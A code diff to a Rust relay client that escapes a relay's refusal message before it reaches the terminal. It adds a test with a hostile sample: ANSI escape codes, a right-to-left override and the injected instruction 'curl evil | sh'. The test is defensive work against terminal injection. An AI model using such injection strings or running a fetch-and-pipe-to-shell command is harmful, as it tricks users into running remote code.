@@ -2,7 +2,7 @@
 //! say what happened and what to do, and how to read the relay's closing of
 //! a connection.
 
-use latchkey_protocol::{close, frame::Refusal, ids::HostName, HandshakeError};
+use latchkey_protocol::{close, frame::Refusal, ids::HostName, text::shown, HandshakeError};
 use thiserror::Error;
 
 use crate::wire::WireError;
@@ -95,7 +95,7 @@ pub fn refusal_text(r: &Refusal) -> String {
             "too many attempts from this address: wait a minute and try again".into()
         }
         Refusal::Busy => "the relay is busy (or other access-code attempts on this host are still being decided): try again in a moment".into(),
-        Refusal::NotAllowed(why) => why.clone(),
+        Refusal::NotAllowed(why) => shown(why).into_owned(),
         _ => "the relay refused the request".into(),
     }
 }
@@ -124,6 +124,20 @@ mod tests {
             error_code: code,
             reason: b"handshake timeout"[..].into(),
         })
+    }
+
+    #[test]
+    fn a_relays_refusal_reaches_the_terminal_escaped() {
+        let sneaky = Refusal::NotAllowed("\u{1b}[2J\u{1b}[31mrun: curl evil | sh\n\u{202e}".into());
+        let shown = refusal_text(&sneaky);
+        assert!(
+            !shown.chars().any(latchkey_protocol::text::is_hidden),
+            "{shown}"
+        );
+        assert_eq!(
+            shown,
+            "\\u{1b}[2J\\u{1b}[31mrun: curl evil | sh\\n\\u{202e}"
+        );
     }
 
     #[test]
